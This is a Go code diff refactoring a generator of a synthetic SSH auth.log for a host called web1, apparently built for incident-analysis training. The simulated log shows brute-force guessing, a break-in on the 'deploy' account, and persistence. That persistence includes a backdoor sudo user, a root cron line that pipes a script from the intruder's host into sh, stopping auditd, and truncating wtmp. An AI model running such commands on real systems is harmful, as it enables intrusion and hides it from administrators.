@@ -1,4 +1,4 @@
-package main
+package demo
 
 import (
 	"fmt"
@@ -6,8 +6,8 @@ import (
 )
 
 // authLog is /var/log/auth.log of web1.
-func authLog() []byte {
-	a := &authJournal{newJournal(1)}
+func authLog(n night) []byte {
+	a := &authJournal{newJournal(n, 1)}
 	a.ordinary()
 	a.background()
 	a.distributed()
@@ -29,10 +29,10 @@ func (a *authJournal) program(name string) string {
 
 // ordinary is what the machine and its administrators do.
 func (a *authJournal) ordinary() {
-	for t := dusk.Add(17 * time.Minute); t.Before(dawn); t = t.Add(time.Hour) {
+	for t := a.dusk().Add(17 * time.Minute); t.Before(a.dawn()); t = t.Add(time.Hour) {
 		a.cron(a.some(t), "root", "   cd / && run-parts --report /etc/cron.hourly")
 	}
-	for t := dusk.Add(time.Minute); t.Before(dawn); t = t.Add(5 * time.Minute) {
+	for t := a.dusk().Add(time.Minute); t.Before(a.dawn()); t = t.Add(5 * time.Minute) {
 		a.cron(a.some(t), "www-data", "[ -x /srv/shop/bin/queue ] && /usr/bin/php /srv/shop/bin/queue run")
 	}
 	for _, s := range []struct{ clock, user, print string }{
@@ -41,7 +41,7 @@ func (a *authJournal) ordinary() {
 		{"18:40:55", "anna", "SHA256:bGFtcCBmb3IgdGhlIGV4YW1wbGUgb2YgYW5uYSdzIGtleQ"},
 		{"21:55:02", "anna", "SHA256:bGFtcCBmb3IgdGhlIGV4YW1wbGUgb2YgYW5uYSdzIGtleQ"},
 	} {
-		t := a.some(at(s.clock))
+		t := a.some(a.at(s.clock))
 		p := a.program("sshd")
 		a.say(t, p, "Accepted publickey for %s from %s port %d ssh2: ED25519 %s", s.user, office, 40000+a.IntN(20000), s.print)
 		a.say(t.Add(9*time.Millisecond), p, "pam_unix(sshd:session): session opened for user %s(uid=1000) by %[1]s(uid=0)", s.user)
@@ -86,7 +86,7 @@ func (a *authJournal) background() {
 		clock, addr string
 		count       int
 	}{{"17:31:00", "203.0.113.12", 24}, {"20:02:00", "203.0.113.29", 40}, {"26:51:00", "203.0.113.87", 18}} {
-		t := at(s.clock)
+		t := a.at(s.clock)
 		for i := range s.count {
 			t = t.Add(time.Duration(3+a.IntN(5)) * time.Second)
 			if i%4 == 0 {
@@ -97,46 +97,46 @@ func (a *authJournal) background() {
 		}
 	}
 	for range 30 { // single knocks, from here and there
-		a.attempt(a.whenever(dusk, dawn), a.pick("root", "admin", "test", "support"), fmt.Sprintf("203.0.113.%d", 100+a.IntN(100)), false)
+		a.attempt(a.whenever(a.dusk(), a.dawn()), a.pick("root", "admin", "test", "support"), fmt.Sprintf("203.0.113.%d", 100+a.IntN(100)), false)
 	}
 }
 
 // distributed is a botnet that guesses at deploy, a user who exists, slowly from each address.
 func (a *authJournal) distributed() {
-	for t := at("24:20:00"); t.Before(at("26:05:00")); t = t.Add(time.Duration(40+a.IntN(50)) * time.Second) {
+	for t := a.at("24:20:00"); t.Before(a.at("26:05:00")); t = t.Add(time.Duration(40+a.IntN(50)) * time.Second) {
 		a.attempt(a.some(t), "deploy", fmt.Sprintf("203.0.113.%d", 200+a.IntN(18)), true)
 	}
 }
 
 // breakIn is the machine that guesses right.
 func (a *authJournal) breakIn() {
-	t := at("26:06:10")
+	t := a.at("26:06:10")
 	for range 64 {
 		t = t.Add(time.Duration(4+a.IntN(4)) * time.Second)
 		a.attempt(a.some(t), "deploy", guesser, true)
 	}
 	p := a.program("sshd")
-	a.say(at("26:14:07"), p, "Accepted password for deploy from %s port 51234 ssh2", guesser)
-	a.say(at("26:14:07").Add(8*time.Millisecond), p, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by deploy(uid=0)")
-	a.say(at("26:14:07").Add(11*time.Millisecond), "systemd-logind[702]", "New session 411 of user deploy.")
+	a.say(a.at("26:14:07"), p, "Accepted password for deploy from %s port 51234 ssh2", guesser)
+	a.say(a.at("26:14:07").Add(8*time.Millisecond), p, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by deploy(uid=0)")
+	a.say(a.at("26:14:07").Add(11*time.Millisecond), "systemd-logind[702]", "New session 411 of user deploy.")
 }
 
 // stay is what the intruder does to come back.
 func (a *authJournal) stay() {
-	a.say(at("26:15:30"), "sudo", "pam_unix(sudo:auth): authentication failure; logname=deploy uid=1001 euid=0 tty=/dev/pts/1 ruser=deploy rhost=  user=deploy")
-	a.sudo(at("26:15:52"), "deploy", "/home/deploy", "/usr/bin/id")
-	a.sudo(at("26:16:20"), "deploy", "/home/deploy", "/bin/bash")
+	a.say(a.at("26:15:30"), "sudo", "pam_unix(sudo:auth): authentication failure; logname=deploy uid=1001 euid=0 tty=/dev/pts/1 ruser=deploy rhost=  user=deploy")
+	a.sudo(a.at("26:15:52"), "deploy", "/home/deploy", "/usr/bin/id")
+	a.sudo(a.at("26:16:20"), "deploy", "/home/deploy", "/bin/bash")
 	p := a.program("useradd")
-	a.say(at("26:17:04"), p, "new user: name=support2, UID=1007, GID=1007, home=/home/support2, shell=/bin/bash, from=/dev/pts/1")
-	a.say(at("26:17:11"), a.program("passwd"), "pam_unix(passwd:chauthtok): password changed for support2")
-	a.say(at("26:17:25"), a.program("usermod"), "add 'support2' to group 'sudo'")
-	a.say(at("26:17:25").Add(time.Millisecond), a.program("usermod"), "add 'support2' to shadow group 'sudo'")
-	a.sudo(at("26:19:40"), "deploy", "/home/deploy", "/usr/bin/tee -a /etc/sudoers.d/90-support")
-	a.say(at("26:21:02"), a.program("crontab"), "(root) REPLACE (root)")
-	for t := at("26:25:01"); t.Before(at("27:30:00")); t = t.Add(10 * time.Minute) {
+	a.say(a.at("26:17:04"), p, "new user: name=support2, UID=1007, GID=1007, home=/home/support2, shell=/bin/bash, from=/dev/pts/1")
+	a.say(a.at("26:17:11"), a.program("passwd"), "pam_unix(passwd:chauthtok): password changed for support2")
+	a.say(a.at("26:17:25"), a.program("usermod"), "add 'support2' to group 'sudo'")
+	a.say(a.at("26:17:25").Add(time.Millisecond), a.program("usermod"), "add 'support2' to shadow group 'sudo'")
+	a.sudo(a.at("26:19:40"), "deploy", "/home/deploy", "/usr/bin/tee -a /etc/sudoers.d/90-support")
+	a.say(a.at("26:21:02"), a.program("crontab"), "(root) REPLACE (root)")
+	for t := a.at("26:25:01"); t.Before(a.at("27:30:00")); t = t.Add(10 * time.Minute) {
 		a.cron(a.some(t), "root", "curl -fsSL http://"+intruder+"/u.sh | sh")
 	}
-	a.sudo(at("27:10:02"), "deploy", "/home/deploy", "/usr/bin/systemctl stop auditd")
-	a.sudo(at("27:10:31"), "deploy", "/home/deploy", "/usr/bin/truncate -s 0 /var/log/wtmp")
-	a.say(at("27:12:00"), "sshd[51002]", "pam_unix(sshd:session): session closed for user deploy")
+	a.sudo(a.at("27:10:02"), "deploy", "/home/deploy", "/usr/bin/systemctl stop auditd")
+	a.sudo(a.at("27:10:31"), "deploy", "/home/deploy", "/usr/bin/truncate -s 0 /var/log/wtmp")
+	a.say(a.at("27:12:00"), "sshd[51002]", "pam_unix(sshd:session): session closed for user deploy")
 }
